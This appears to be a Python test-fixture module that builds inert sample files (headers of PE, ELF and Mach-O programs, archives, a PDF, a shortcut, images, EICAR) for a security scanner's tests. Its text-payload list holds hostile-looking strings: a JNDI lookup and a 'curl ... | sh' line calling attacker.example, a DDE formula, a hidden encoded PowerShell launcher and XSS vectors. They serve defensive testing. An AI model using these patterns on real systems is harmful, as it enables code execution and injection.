"""What the attack files carry: the beginnings of programs, archives and pages that do nothing, and EICAR's text.

Nothing here can act: programs have a valid head, no code and no sections; scripts print one sentence; the page's
script writes to the console. EICAR (https://www.eicar.org, the anti-malware test file) is harmless by agreement.
"""

from __future__ import annotations

import base64
import gzip
import io
import struct
import zipfile
from collections.abc import Mapping

MARK = b"SAFECARE-INERT-TEST"
"""Stands in every payload: who finds one of these files can tell what it is."""
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
_STAMP = (2026, 1, 1, 0, 0, 0)


def pe(at: int = 0x80) -> bytes:
    """Return the head of a Windows program (PE/COFF, no section, no code), its PE header `at` that offset."""
    dos = b"MZ" + b"\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" + b"\0" * 44 + struct.pack("<I", at)
    stub = b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21\xb8\1\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 0xF0, 0x22)
    optional = struct.pack("<H", 0x20B) + b"\0" * 238
    return (dos + stub).ljust(max(at, 64), b"\0") + coff + optional + MARK


def elf() -> bytes:
    """Return the head of a Linux program without segments."""
    head = b"\x7fELF\2\1\1" + b"\0" * 9 + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 0, 0, 0, 64, 56, 0, 64, 0, 0)
    return head + MARK


def macho() -> bytes:
    """Return the head of a macOS program without commands."""
    return struct.pack("<IIIIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0, 0) + MARK


def fat_macho() -> bytes:
    """Return the head of a macOS program for two processors."""
    arch = struct.pack(">IIIII", 0x01000007, 3, 4096, 64, 12) + struct.pack(">IIIII", 0x0100000C, 0, 8192, 64, 12)
    return struct.pack(">II", 0xCAFEBABE, 2) + arch + MARK


def zipped(members: Mapping[str, bytes] | None = None, comment: bytes = MARK) -> bytes:
    """Return a ZIP of `members` (default: EICAR)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, raw in (members or {"eicar.com": EICAR}).items():
            archive.writestr(zipfile.ZipInfo(name, _STAMP), raw, zipfile.ZIP_DEFLATED)
        archive.comment = comment
    return out.getvalue()


def pdf(script: str = "app.alert('SAFECARE-INERT-TEST');", extra: bytes = b"") -> bytes:
    """Return a PDF of one empty page; with `script`, one that runs it when opened."""
    action = f"/OpenAction << /S /JavaScript /JS ({script}) >> " if script else ""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {action}>>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, raw in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, raw)
    out += b"".join([b"% ", extra, b"\n"]) if extra else b""
    start = len(out)
    out += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def lnk() -> bytes:
    """Return the head of a Windows shortcut ([MS-SHLLINK] 2.1) that names a harmless command."""
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    arguments = "/c echo SAFECARE-INERT-TEST"
    strings = struct.pack("<H", len(arguments)) + arguments.encode("utf-16-le")
    return struct.pack("<I", 76) + clsid + struct.pack("<II", 0xA0, 0x20) + b"\0" * 48 + strings


def jpeg(extra: bytes = b"") -> bytes:
    """Return a JPEG picture of 8 x 8 grey pixels; `extra` stands in a comment."""
    note = b"\xff\xfe" + struct.pack(">H", len(extra) + 2) + extra if extra else b""
    table = b"\xff\xdb\0\x43\0" + b"\1" * 64
    frame = b"\xff\xc0\0\x0b\x08\0\x08\0\x08\1\1\x11\0"
    codes = b"\xff\xc4\0\x14\0\1" + b"\0" * 15 + b"\0" + b"\xff\xc4\0\x14\x10\1" + b"\0" * 15 + b"\0"
    return b"\xff\xd8" + note + table + frame + codes + b"\xff\xda\0\x08\1\1\0\0\x3f\0" + b"\x3f" + b"\xff\xd9"


def jpeg_2000() -> bytes:
    """Return the head and end of a JPEG 2000 codestream (ISO 15444-1 annex A)."""
    size = struct.pack(">HHIIIIIIIIHBBB", 41, 0, 8, 8, 0, 0, 8, 8, 0, 0, 1, 7, 1, 1)
    style = b"\xff\x52\0\x0c\0\0\0\1\0\1\4\4\0\1"
    return b"\xff\x4f\xff\x51" + size + style + b"\xff\x5c\0\7\x40\x40\x48\x48\x50" + b"\xff\xd9"


def rle(pixels: bytes = b"\0" * 64) -> bytes:
    """Return RLE pixel data of one segment (PS3.5 annex G)."""
    packed = b"".join(
        bytes([len(pixels[at : at + 128]) - 1]) + pixels[at : at + 128] for at in range(0, len(pixels), 128)
    )
    return struct.pack("<16I", 1, 64, *[0] * 14) + packed


BINARIES: dict[str, bytes] = {
    "pe": pe(),
    "elf": elf(),
    "macho": macho(),
    "fat-macho": fat_macho(),
    "zip": zipped(),
    "pdf": pdf(),
    "lnk": lnk(),
    "class": b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10" + MARK,
    "dex": b"dex\n035\0" + b"\0" * 24 + MARK,
    "wasm": b"\0asm\1\0\0\0" + MARK,
    "swf": b"FWS\x0a\x40\0\0\0" + MARK,
    "7z": b"7z\xbc\xaf\x27\x1c\0\4" + b"\0" * 24 + MARK,
    "rar": b"Rar!\x1a\x07\1\0" + b"\0" * 16 + MARK,
    "cab": b"MSCF\0\0\0\0" + struct.pack("<IIII", 64, 0, 44, 0) + b"\3\1\1\0\1\0\0\0" + b"\0" * 28 + MARK,
    "gzip": gzip.compress(EICAR + MARK, mtime=0),
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + b"\x3e\0\3\0\xfe\xff\x09\0" + b"\0" * 64 + MARK,
    "rtf": rb"{\rtf1\ansi {\object\objemb\objupdate{\*\objdata 0105}} " + MARK + b"}",
    "onenote": bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 16 + MARK,
}
"""Binary payloads by name."""

SCRIPTS: dict[str, bytes] = {
    "sh": b"#!/bin/sh\necho SAFECARE-INERT-TEST\nexit 0\n",
    "python": b"#!/usr/bin/env python3\nprint('SAFECARE-INERT-TEST')\n",
    "bat": b"@echo off\r\necho SAFECARE-INERT-TEST\r\nexit /b 0\r\n",
    "html": b"<html><script>console.log('SAFECARE-INERT-TEST')</script></html>",
    "php": b"<?php echo 'SAFECARE-INERT-TEST'; ?>",
    "svg": b"<svg onload=\"console.log('SAFECARE-INERT-TEST')\"/>",
    "hta": b"<hta:application id=a><script language=vbscript>MsgBox 1</script>",
    "vbs": b'Set a = CreateObject("WScript.Shell"): a.Popup "SAFECARE-INERT-TEST"',
    "powershell": b"powershell -nop -w hidden -enc " + base64.b64encode("echo SAFECARE".encode("utf-16-le")),
}
"""Script payloads by name."""

TEXTS: dict[str, str] = {
    "script-tag": "<script>console.log('SAFECARE')</script>",
    "event-handler": "<img src=x onerror=console.log(1)>",
    "javascript-link": "javascript:console.log('SAFECARE')",
    "iframe": "<iframe src='https://attacker.example/'></iframe>",
    "lookup": "${jndi:ldap://attacker.example/a}",
    "formula": "=cmd|'/c calc.exe'!A1",
    "powershell": SCRIPTS["powershell"].decode(),
    "base64-pe": base64.b64encode(pe()).decode(),
    "shell": "`curl -s https://attacker.example/x.sh | sh`",
    "eval": "__import__('os').system('echo SAFECARE')",
    "eicar": EICAR.decode(),
}
"""Payloads that fit into a text value, by name."""
